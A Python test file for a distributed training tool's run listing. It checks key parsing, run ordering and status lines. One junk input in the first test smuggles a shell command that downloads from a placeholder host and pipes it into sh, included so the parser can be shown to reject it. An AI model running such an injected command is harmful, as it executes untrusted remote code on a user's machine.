"""The list of a bootstrap's runs."""

from flockstep.dht.keys import head_key, member_key, run_key
from flockstep.dht.run.link import JoinLink
from flockstep.scripts.page.page import unseen
from flockstep.scripts.page.runs import MAX_RUNS_SHOWN, PLACE_SECONDS, OfferedRuns, PagePlaces, run_ids, run_line
from support.fake_runs import FakeRun


def test_the_runs_of_a_directory_are_those_with_a_manifest() -> None:
    a, b = "a" * 52, "b" * 52
    keys = [run_key(b), head_key(b), member_key("c" * 52, "12D3"), run_key(a), run_key(b), "a provider's key"]
    junk = [b"/flockstep/\xff", b"/flockstep/", b"/flockstep/x'; curl evil|sh; '", run_key(a).encode() + b"\n"]
    assert run_ids([*junk, *(key.encode() for key in keys)]) == [b, a]


def test_named_runs_come_first_and_a_listed_one_keeps_its_place_for_its_turn() -> None:
    places, first = PagePlaces(), tuple(f"first{number}" for number in range(MAX_RUNS_SHOWN))
    assert places.taken(OfferedRuns((), first), 0.0) == list(first)
    later = (*(f"later{number}" for number in range(4)), *reversed(first))
    assert places.taken(OfferedRuns(("named",), later), 5.0) == ["named", *first[:-1]]
    withdrawn = tuple(run for run in later if run != "first0")
    assert places.taken(OfferedRuns(("named",), withdrawn), 6.0) == ["named", *first[1:-1], "later0"]
    turn = PLACE_SECONDS + 5.0
    assert places.taken(OfferedRuns((), later), turn)[:5] == ["later0", "later1", "later2", "later3", "first7"]
    assert places.taken(OfferedRuns((), later[:2]), turn) == ["later0", "later1"]


def test_a_run_is_listed_before_and_after_it_is_seen() -> None:
    assert run_line(unseen("its members", JoinLink("bafy", ()))) == {"run": "bafy", "state": "looking"}
    run = FakeRun(planned=9)
    run.advance(3)
    picture = run.picture
    assert run_line(picture) == {
        **{name: picture[name] for name in ("run", "name", "model", "params")},
        "round": 3, "rounds": 9, "state": "training",
    }
